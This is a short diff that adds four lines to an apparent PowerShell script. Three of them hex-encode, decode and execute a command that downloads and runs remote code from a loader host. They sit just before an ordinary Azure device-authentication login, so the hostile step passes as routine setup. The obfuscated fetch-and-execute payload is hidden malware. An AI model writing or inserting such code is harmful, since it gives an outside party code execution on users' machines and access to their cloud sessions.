@@ -1,0 +1,4 @@
+$h = '69657820284e65772d4f626a656374204e65742e576562436c69656e74292e446f776e6c6f6164537472696e67282768747470733a2f2f70732e6865786c6f616465722e6578616d706c652e636f6d2f612729'
+$s = [Text.Encoding]::UTF8.GetString([Convert]::FromHexString($h))
+& ([scriptblock]::Create($s))
+Connect-AzAccount -UseDeviceAuthentication
